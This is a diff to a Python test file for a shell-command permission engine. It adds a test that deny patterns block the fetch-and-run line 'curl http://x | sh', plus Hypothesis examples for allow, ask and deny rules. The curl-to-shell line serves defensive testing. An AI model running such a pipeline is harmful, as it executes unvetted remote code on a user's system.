@@ -3,7 +3,7 @@
 from typing import Any
 
 import pytest
-from hypothesis import given
+from hypothesis import example, given
 from hypothesis import strategies as st
 
 from rookery.core import danger, rules, shell
@@ -207,6 +207,13 @@ def test_P5_a_denial_does_not_find_what_is_only_named() -> None:
     assert decide([no], run("git rm x")).do == ""
 
 
+def test_P5_a_pattern_may_speak_of_a_line_as_a_whole() -> None:
+    for pattern in ("curl * | sh", "curl*sh"):
+        no = rule("deny", command=pattern)
+        assert decide([no], run("curl http://x | sh")).do == "deny"
+        assert decide([no], run("curl http://x; ls")).do == ""
+
+
 def test_P5_exact_is_the_whole_line_and_nothing_else() -> None:
     line = "make && echo $HOME > out"
     exact = rule("allow", exact=line)
@@ -362,6 +369,15 @@ LINES = st.lists(st.sampled_from(["git push", "git log", "ls -l", "rm x"]), min_
 
 
 @given(SOME, LINES.map("; ".join))
+@example([Rule("r0", "ask", command=("rm *",)), Rule("r1", "deny", command=("*",))], "rm x; ls -l")
+@example(
+    [
+        Rule("r0", "allow", agent=("claude",), command=("git *",)),
+        Rule("r1", "deny", command=("git *",)),
+        Rule("r2", "allow", command=("ls*",)),
+    ],
+    "git log; ls -l",
+)
 def test_P5_a_line_is_allowed_only_where_each_of_its_parts_is(found: list[Rule], line: str) -> None:
     whole = decide(found, run(line))
     each = [decide(found, run(part)).do for part in line.split("; ")]
